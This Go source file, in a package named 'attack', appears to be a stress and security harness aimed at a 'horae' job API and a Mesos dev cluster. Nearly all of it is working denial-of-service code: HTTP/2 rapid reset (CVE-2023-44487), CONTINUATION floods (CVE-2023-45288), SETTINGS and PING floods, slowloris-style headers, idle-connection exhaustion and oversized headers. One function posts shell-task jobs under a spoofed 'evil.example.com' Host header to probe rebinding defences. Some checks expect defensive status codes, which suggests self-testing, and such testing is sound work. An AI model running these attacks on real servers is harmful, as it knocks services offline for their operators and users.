package attack

import (
	"bufio"
	"bytes"
	"context"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// frames is a client of HTTP/2 that does what it likes.
type frames struct {
	conn   net.Conn
	framer *http2.Framer
	next   uint32 // stream
	to     target
}

// frames opens a connection whose streams have a window of that size. nil: it was refused.
func (t target) frames(ctx context.Context, window uint32) *frames {
	conn := t.conn(ctx)
	if conn == nil {
		return nil
	}
	f := &frames{conn: conn, framer: http2.NewFramer(conn, conn), next: 1, to: t}
	_, _ = io.WriteString(conn, http2.ClientPreface)
	_ = f.framer.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: window})
	go func() { _, _ = io.Copy(io.Discard, conn) }() // so that only the window holds the server back
	return f
}

// headers of a request, encoded.
func (f *frames) headers(method, path, accept string, more ...string) []byte {
	f.to.sent.Add(1)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	for _, h := range [][2]string{{":method", method}, {":scheme", "http"}, {":authority", f.to.host()}, {":path", path}, {"accept", accept}} {
		_ = enc.WriteField(hpack.HeaderField{Name: h[0], Value: h[1]})
	}
	for i := 0; i+1 < len(more); i += 2 {
		_ = enc.WriteField(hpack.HeaderField{Name: more[i], Value: more[i+1]})
	}
	return block.Bytes()
}

// get asks on a new stream.
func (f *frames) get(path, accept string) error {
	err := f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: f.next, BlockFragment: f.headers("GET", path, accept), EndStream: true, EndHeaders: true})
	f.next += 2
	return err
}

const (
	asJSON  = "application/json"
	asYAML  = "application/yaml"
	asTable = "application/json;as=Table;v=v1;g=meta.k8s.io"
	allJobs = "/apis/horae/v1/jobs?includeObject=Object"
	allRuns = "/apis/horae/v1/runs?includeObject=Object"
)

// unread asks for what is large on many streams, and takes none of it.
func unread(accept string, paths ...string) func(context.Context, target) error {
	return func(ctx context.Context, t target) error {
		return forever(ctx, 4, func(int) error {
			f := t.frames(ctx, 0)
			if f == nil {
				return nil
			}
			for i := 0; i < 120 && f.get(paths[i%len(paths)], accept) == nil; i++ {
			}
			rest(ctx, 300*time.Millisecond)
			return nil
		})
	}
}

// unreadHTTP1 does the same over many connections.
func unreadHTTP1(path string) func(context.Context, target) error {
	return func(ctx context.Context, t target) error {
		return forever(ctx, 8, func(int) error {
			if conn := t.conn(ctx); conn != nil {
				_, _ = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: localhost\r\nAccept: %s\r\n\r\n", path, asTable)
			}
			rest(ctx, 20*time.Millisecond)
			return nil
		})
	}
}

// rapidReset opens streams and gives them up at once (CVE-2023-44487).
func rapidReset(ctx context.Context, t target) error {
	return forever(ctx, 4, func(int) error {
		f := t.frames(ctx, 1<<16)
		if f == nil {
			return nil
		}
		defer f.conn.Close()
		for range 10_000 {
			stream := f.next
			if f.get(allJobs, asYAML) != nil || f.framer.WriteRSTStream(stream, http2.ErrCodeCancel) != nil {
				return nil // let go, as it should be
			}
		}
		return nil
	})
}

// continuations sends headers that do not end (CVE-2023-45288).
func continuations(ctx context.Context, t target) error {
	return forever(ctx, 4, func(int) error {
		f := t.frames(ctx, 1<<16)
		if f == nil {
			return nil
		}
		defer f.conn.Close()
		block := f.headers("GET", allJobs, asJSON)
		_ = f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block, EndStream: true})
		more := f.headers("GET", allJobs, asJSON, "x", strings.Repeat("x", 15_000))
		for range 10_000 {
			if f.framer.WriteContinuation(1, false, more) != nil {
				return nil
			}
		}
		return nil
	})
}

// settings floods with frames that want an answer, and reads none.
func settings(ctx context.Context, t target) error {
	return forever(ctx, 2, func(int) error {
		f := t.frames(ctx, 1<<16)
		if f == nil {
			return nil
		}
		defer f.conn.Close()
		for range 50_000 {
			if f.framer.WritePing(false, [8]byte{}) != nil || f.framer.WriteSettings() != nil {
				return nil
			}
		}
		return nil
	})
}

// unfinishedBodies begins to write, by chunks of HTTP/1 and by frames of HTTP/2, and does not end.
func unfinishedBodies(ctx context.Context, t target) error {
	part := `{"apiVersion":"horae/v1","kind":"Job","metadata":{"name":"a","annotations":{"a":"` + strings.Repeat("x", 60_000)
	return forever(ctx, 4, func(i int) error {
		if i%2 == 0 {
			if conn := t.conn(ctx); conn != nil {
				_, _ = fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\n", jobsPath)
				for range 16 {
					_, _ = fmt.Fprintf(conn, "%x\r\n%s\r\n", len(part), part)
				}
			}
		} else if f := t.frames(ctx, 1<<16); f != nil {
			for range 100 {
				stream := f.next
				f.next += 2
				_ = f.framer.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: f.headers("POST", jobsPath, asJSON), EndHeaders: true})
				_ = f.framer.WriteData(stream, false, []byte(part[:16_000]))
			}
		}
		rest(ctx, 20*time.Millisecond)
		return nil
	})
}

// slowHeaders sends the headers of requests, large ones, byte by byte at the end.
func slowHeaders(ctx context.Context, t target) error {
	return forever(ctx, 4, func(int) error {
		if conn := t.conn(ctx); conn != nil {
			_, _ = fmt.Fprintf(conn, "GET /livez HTTP/1.1\r\nHost: localhost\r\nX: %s", strings.Repeat("x", 60_000))
		}
		rest(ctx, 2*time.Millisecond)
		return nil
	})
}

// idleConnections opens 10,000 and keeps them: some silent, some that have asked something.
func idleConnections(ctx context.Context, t target) error {
	err := forever(ctx, 4, func(i int) error {
		if i > 10_000 {
			rest(ctx, time.Second)
			return nil
		}
		if conn := t.conn(ctx); conn != nil && i%2 == 0 {
			_, _ = fmt.Fprint(conn, "GET /livez HTTP/1.1\r\nHost: localhost\r\n\r\n")
		}
		return nil
	})
	return err
}

// watches opens 1,000 that are read, and as many as it gets that are not.
func watches(query string) func(context.Context, target) error {
	return func(ctx context.Context, t target) error {
		go func() { _ = unread(asJSON, "/apis/horae/v1/runs?watch=true"+query)(ctx, t) }()
		return forever(ctx, 1, func(i int) error {
			if i >= 10 {
				rest(ctx, time.Second)
				return nil
			}
			f := t.frames(ctx, 1<<30)
			if f == nil {
				return nil
			}
			_ = f.framer.WriteWindowUpdate(0, 1<<30)
			for range 100 {
				_ = f.get("/apis/horae/v1/runs?watch=true"+query, asJSON)
			}
			return nil
		})
	}
}

// watchStorm opens watches and leaves again.
func watchStorm(ctx context.Context, t target) error {
	return forever(ctx, 8, func(i int) error {
		ctx, cancel := context.WithTimeout(ctx, time.Duration(i%20)*time.Millisecond)
		defer cancel()
		t.do(ctx, http.MethodGet, allRuns+"&watch=true", "", "")
		return nil
	})
}

// flood lists and writes as fast as it can.
func flood(ctx context.Context, t target) error {
	return forever(ctx, 16, func(i int) error {
		name := fmt.Sprintf("flood-%d", i%200)
		switch i % 4 {
		case 0:
			t.do(ctx, http.MethodGet, allJobs, "", "")
		case 1:
			t.do(ctx, http.MethodPost, jobsPath, asJSON, jobDocument(name, `"task":{"shell":"true"}`))
		case 2:
			t.do(ctx, http.MethodPatch, jobsPath+"/"+name, "application/merge-patch+json", fmt.Sprintf(`{"spec":{"description":"%d"}}`, i))
		case 3:
			t.do(ctx, http.MethodDelete, jobsPath+"/"+name, "", "")
		}
		return nil
	})
}

// probes asks what a probe asks, as fast as it can.
func probes(ctx context.Context, t target) error {
	return forever(ctx, 16, func(i int) error {
		t.do(ctx, http.MethodGet, []string{"/readyz?verbose", "/metrics", "/readyz/etcd", "/"}[i%4], "", "")
		return nil
	})
}

// madeUpPaths asks for what is not there.
func madeUpPaths(ctx context.Context, t target) error {
	return forever(ctx, 8, func(i int) error {
		for _, path := range []string{"/a/made-up-%d", "/made-up-%d", "/%%ff%d", "/a/%%ff%%fe%d"} {
			if code := t.do(ctx, http.MethodGet, jobsPath+fmt.Sprintf(path, i), "", ""); code >= 500 {
				return fmt.Errorf("GET "+path+": %d", i, code)
			}
		}
		return nil
	})
}

// hugeHeaders sends headers and paths that are longer than anybody needs.
func hugeHeaders(ctx context.Context, t target) error {
	return forever(ctx, 4, func(i int) error {
		conn := t.conn(ctx)
		if conn == nil {
			return nil
		}
		defer conn.Close()
		path, header := "/livez", "X: "+strings.Repeat("x", 10<<20)
		if i%2 == 0 {
			path, header = "/"+strings.Repeat("x", 10<<20), "X: x"
		}
		go func() { _, _ = fmt.Fprintf(conn, "GET %s HTTP/1.1\r\nHost: localhost\r\n%s\r\n\r\n", path, header) }()
		_ = conn.SetReadDeadline(time.Now().Add(5 * time.Second))
		res, err := http.ReadResponse(bufio.NewReader(conn), nil)
		if err == nil {
			defer res.Body.Close()
			if res.StatusCode != http.StatusRequestHeaderFieldsTooLarge && res.StatusCode != http.StatusRequestURITooLong {
				return fmt.Errorf("a header of 10 MiB: %d", res.StatusCode)
			}
		}
		return nil
	})
}

// longTexts puts into each parser of a header or parameter as much as a request may hold.
func longTexts(ctx context.Context, t target) error {
	long := strings.Repeat("x%2C", 15_000)
	return forever(ctx, 4, func(i int) error {
		path := []string{
			"?labelSelector=a" + long, "?fieldSelector=metadata.name%3D" + long, "?resourceVersion=" + long, "?watch=" + long, "?includeObject=" + long,
			"/" + long, "?labelSelector=a+in+(" + long + ")", "?fieldSelector=" + strings.ReplaceAll(long, "%2C", "%3D1%2C"),
		}[i%8]
		if code := t.do(ctx, http.MethodGet, jobsPath+path, "", ""); code >= 500 {
			return fmt.Errorf("GET %.40s: %d", path, code)
		}
		return nil
	})
}

// foreignHosts does what a page of another site can have a browser do, to the API and to the dev cluster.
func foreignHosts(ctx context.Context, t target) error {
	return forever(ctx, 2, func(i int) error {
		url := []string{t.API + jobsPath, t.Mesos + "/api/v1/scheduler", t.API + "/metrics", t.Mesos + "/state"}[i%4]
		req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(jobDocument("rebound", `"task":{"shell":"id"}`)))
		if err != nil {
			return err
		}
		req.Header.Set("Content-Type", asJSON)
		req.Host = "evil.example.com"
		t.sent.Add(1)
		res, err := t.client.Do(req)
		if err != nil {
			return nil // the connection was refused, or the time is over
		}
		defer res.Body.Close()
		if res.StatusCode != http.StatusForbidden && res.StatusCode != http.StatusTooManyRequests {
			return fmt.Errorf("POST %s with a foreign Host: %d", url, res.StatusCode)
		}
		return nil
	})
}

func rest(ctx context.Context, d time.Duration) {
	select {
	case <-time.After(d):
	case <-ctx.Done():
	}
}
